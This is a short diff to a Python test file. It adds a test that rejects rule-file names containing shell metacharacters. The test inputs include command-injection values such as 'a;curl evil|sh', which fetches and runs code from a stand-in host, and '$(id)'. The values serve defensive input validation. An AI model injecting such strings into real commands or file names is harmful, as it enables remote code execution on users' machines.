@@ -113,3 +113,11 @@ def test_the_digest_is_about_what_a_proof_is_about() -> None:
     reworded = _read("## Enforcement\n```regex\nnow\\(\n```\n", HEAD.replace("zones", "time zones"))
     other = _read("## Enforcement\n```regex\nnow \\(\n```\n")
     assert one.digest == reworded.digest != other.digest
+
+
+@each("name", ["a;curl evil|sh", "a b", "$(id)", "`id`", "a&b", "a\nb"])
+def test_a_name_that_a_shell_would_run_is_refused_because_messages_contain_commands_with_it(name: str) -> None:
+    text = HEAD + "## Enforcement\n\n```python\nnow()\n```\n"
+    rule, troubles = read(text, f"memory/feedback_{name}.md")
+    assert rule is None
+    assert "rename the file" in troubles[0].text
